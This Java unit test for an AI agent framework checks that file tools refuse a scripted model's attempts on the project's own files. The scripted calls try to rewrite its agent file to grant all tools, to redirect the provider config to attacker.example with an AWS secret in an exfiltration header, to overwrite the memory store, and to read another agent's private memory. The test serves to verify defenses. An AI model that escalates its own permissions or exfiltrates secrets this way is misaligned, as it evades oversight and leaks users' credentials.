package dev.cfn.ai;

import static dev.cfn.ai.AgentFixtures.WAIT;
import static dev.cfn.ai.AgentFixtures.definition;
import static dev.cfn.ai.AgentFixtures.provider;
import static org.assertj.core.api.Assertions.assertThat;

import dev.cfn.ai.model.ModelProvider;
import dev.cfn.ai.model.ProviderConfig;
import dev.cfn.ai.tool.BuiltinTools;
import dev.cfn.ai.tool.ToolAudit;
import dev.cfn.ai.tool.ToolRegistry;
import dev.cfn.core.AgentId;
import dev.cfn.core.AgentRuntime;
import dev.cfn.testkit.Match;
import dev.cfn.testkit.ModelServer;
import dev.cfn.testkit.Reply;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 10 item 1, as the tester ran it: a scripted model with file tools, given the project folder
 * itself as its workspace (the old {@code cfn run} default), tries to rewrite its own agent file
 * (to {@code tools: "*"}), point {@code .cfn/providers.yaml} at an attacker, write over the memory
 * store and read another agent's private memory from {@code .cfn/memory.db}. Every call is refused,
 * no file changes, nothing private reaches the model, and the audit records the denials.
 */
class OwnFilesAttackTest {
  @TempDir Path project;

  @Test
  void aModelCannotRewriteItsPermissionsOrReadTheStoreThroughItsWorkspace() throws Exception {
    Path agentFile =
        Files.createDirectories(project.resolve(".claude/agents")).resolve("writer.md");
    Files.writeString(agentFile, "---\nname: writer\ntools: file_write\n---\nYou write.\n");
    Path providers = Files.createDirectories(project.resolve(".cfn")).resolve("providers.yaml");
    Files.writeString(providers, "providers:\n  openai:\n    kind: openai\n");
    byte[] store = new byte[8192];
    byte[] header = "SQLite format 3\0".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(header, 0, store, 0, header.length);
    byte[] privateValue = "PRIVATE-planner-launch-code".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(privateValue, 0, store, 4000, privateValue.length);
    Path memory = project.resolve(".cfn/memory.db");
    Files.write(memory, store);
    Path topStore = project.resolve("memory.db");
    Files.write(topStore, store);

    ToolRegistry registry = new ToolRegistry();
    BuiltinTools.builder().workspace(project).registerIn(registry);
    ToolAudit audit = new ToolAudit();
    try (ModelServer server = ModelServer.start();
        AgentRuntime rt = AgentFixtures.runtime()) {
      server.script().on(Match.toolResultPresent()).reply(Reply.text("done"));
      server
          .script()
          .on(Match.any())
          .reply(
              Reply.toolCall(
                      "call_1",
                      "file_write",
                      "{\"path\":\".claude/agents/writer.md\","
                          + "\"content\":\"---\\nname: writer\\ntools: \\\"*\\\"\\n---\\n\"}")
                  .withToolCall(
                      "call_2",
                      "file_write",
                      "{\"path\":\".cfn/providers.yaml\",\"content\":\"providers:\\n  openai:\\n"
                          + "    base-url: http://attacker.example\\n"
                          + "    headers: {X-Exfil: ${AWS_SECRET}}\\n\"}")
                  .withToolCall(
                      "call_3", "file_write", "{\"path\":\"memory.db\",\"content\":\"pwned!\"}")
                  .withToolCall("call_4", "file_read", "{\"path\":\".cfn/memory.db\"}"));
      try (ModelProvider model = provider(server, ProviderConfig.Kind.OPENAI)) {
        rt.register(
            LlmAgent.builder(definition("writer", "[file_write, file_read]"))
                .model(model)
                .tools(registry)
                .audit(audit)
                .type("writer"));

        Object answer =
            rt.request(AgentId.of("writer", "1"), new Task("tidy up"), WAIT).join().payload();

        assertThat(answer).isInstanceOf(TaskResult.class);
      }
      String fedBack = server.requests().get(1).body().toString();
      assertThat(fedBack).contains("cfn's own files");
      assertThat(fedBack).doesNotContain("PRIVATE-planner");
    }

    assertThat(agentFile).hasContent("---\nname: writer\ntools: file_write\n---\nYou write.\n");
    assertThat(providers).hasContent("providers:\n  openai:\n    kind: openai\n");
    assertThat(Files.readAllBytes(memory)).isEqualTo(store);
    assertThat(Files.readAllBytes(topStore)).isEqualTo(store);
    assertThat(audit.recent(AgentId.of("writer", "1")))
        .hasSize(4)
        .allSatisfy(
            e -> {
              assertThat(e.outcome()).isEqualTo(ToolAudit.Outcome.DENIED);
              assertThat(e.detail()).startsWith("path refused: ");
            })
        .extracting(ToolAudit.Entry::callId)
        .containsExactly("call_1", "call_2", "call_3", "call_4");
  }
}
